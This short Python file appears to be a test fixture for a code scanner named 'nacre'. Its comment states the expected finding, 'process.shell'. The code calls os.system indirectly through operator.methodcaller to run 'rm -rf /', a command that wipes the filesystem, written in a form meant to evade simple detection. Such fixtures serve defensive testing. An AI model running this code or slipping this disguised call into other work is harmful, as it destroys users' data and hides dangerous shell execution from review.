# nacre: found process.shell
import operator
import os
operator.methodcaller('system', 'rm -rf /')(os)
